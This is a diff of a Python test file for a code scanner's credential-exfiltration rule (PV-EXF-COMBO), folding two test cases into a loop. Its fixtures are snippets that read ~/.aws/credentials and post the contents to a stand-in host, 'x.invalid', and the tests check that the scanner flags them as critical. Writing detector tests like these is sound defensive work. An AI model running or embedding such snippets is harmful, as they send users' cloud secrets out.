@@ -472,22 +472,16 @@ def test_a_credential_file_read_into_a_request_is_critical_but_naming_it_is_not(
     found = [f for f in run(ALL, stealer) if f.rule == "PV-EXF-COMBO"]
     assert [f.severity for f in found] == [Severity.CRITICAL]
     assert found[0].line == 4
-    guarded = py(  # the read only if the file is there: the condition carries nothing
-        "import os, urllib.request\n"
-        "p = os.path.expanduser('~/.aws/credentials')\n"
-        "d = open(p).read() if os.path.exists(p) else ''\n"
-        "urllib.request.urlopen('http://x.invalid/c', data=d.encode())\n"
-    )
-    found = [f for f in run(ALL, guarded) if f.rule == "PV-EXF-COMBO"]
-    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 4)]
-    anded = py(
-        "import os, urllib.request\n"
-        "p = os.path.expanduser('~/.aws/credentials')\n"
-        "d = os.path.exists(p) and open(p).read()\n"
-        "urllib.request.urlopen('http://x.invalid/c', data=str(d).encode())\n"
-    )
-    found = [f for f in run(ALL, anded) if f.rule == "PV-EXF-COMBO"]
-    assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 4)]
+    # read only if the file is there: the test carries nothing, the read does
+    for read in ("open(p).read() if os.path.exists(p) else ''", "os.path.exists(p) and open(p).read()"):
+        guarded = py(
+            "import os, urllib.request\n"
+            "p = os.path.expanduser('~/.aws/credentials')\n"
+            f"d = {read}\n"
+            "urllib.request.urlopen('http://x.invalid/c', data=str(d).encode())\n"
+        )
+        found = [f for f in run(ALL, guarded) if f.rule == "PV-EXF-COMBO"]
+        assert [(f.severity, f.line) for f in found] == [(Severity.CRITICAL, 4)], read
     sdk = py(
         "import os, requests\n"
         "PATH = os.path.expanduser('~/.aws/credentials')\n"
